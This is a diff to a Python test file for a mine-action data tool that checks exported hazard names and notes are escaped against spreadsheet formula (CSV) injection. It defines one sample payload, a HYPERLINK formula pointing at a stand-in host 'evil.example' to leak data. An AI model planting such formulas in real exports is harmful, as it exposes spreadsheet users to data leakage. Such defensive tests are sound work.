@@ -14,10 +14,12 @@ import pytest
 
 from mineaction.cli import main
 from mineaction.domain.layers import get_layer
-from mineaction.io.writers import FORMULA_LEADS, spreadsheet_text, write_records
+from mineaction.io.writers import write_records
 from mineaction.store import open_store
 from tests.conftest import EXAMPLES
 
+#: What a spreadsheet reads as the start of a formula (OWASP, CSV injection).
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
 LINK = '=HYPERLINK("http://evil.example/?leak","click me")'
 #: Hazard names and notes that a spreadsheet would read as formulas (OWASP's leading
 #: characters), and one it would not.
@@ -53,6 +55,10 @@ def quoted(text: str) -> str:
     return "'" + text
 
 
+def spreadsheet_text(text: str) -> str:
+    return quoted(text) if text.startswith(FORMULA_LEADS) else text
+
+
 def assert_no_formula_text(values: list[object]) -> None:
     for v in values:
         assert not (isinstance(v, str) and v.startswith(FORMULA_LEADS)), repr(v)
@@ -75,6 +81,10 @@ def xlsx_records(path: Path) -> list[dict[str, openpyxl.cell.cell.Cell]]:
 
 
 def test_spreadsheet_text_rule():
+    from mineaction.io import writers
+
+    assert writers.FORMULA_LEADS == FORMULA_LEADS
+    spreadsheet_text = writers.spreadsheet_text
     for lead in FORMULA_LEADS:
         assert spreadsheet_text(lead + "x") == "'" + lead + "x"
     assert spreadsheet_text("x=1") == "x=1" and spreadsheet_text("") == ""
